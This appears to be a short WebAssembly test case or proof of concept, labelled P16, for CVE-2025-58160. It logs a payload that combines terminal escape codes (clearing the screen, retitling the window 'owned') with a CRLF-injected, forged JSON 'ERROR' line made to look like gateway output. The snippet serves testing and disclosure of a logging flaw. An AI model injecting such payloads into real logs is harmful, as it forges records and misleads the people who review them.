;; P16. Escape codes (CVE-2025-58160), and what looks like a line of the gateway's.
;;; imports
(import "wasi:logging/logging@0.1.0-draft" "log" (func $log (param i32 i32 i32 i32 i32)))
;;; fields
(data (i32.const 1024) "\1b[2J\1b]0;owned\07red\0d\0a{\22level\22:\22ERROR\22,\22message\22:\22forged line\22}")
;;; handle
(call $log (i32.const 2) (i32.const 16) (i32.const 4) (i32.const 1024) (i32.const 60))
(call $answer (i32.const 16) (i32.const 4))
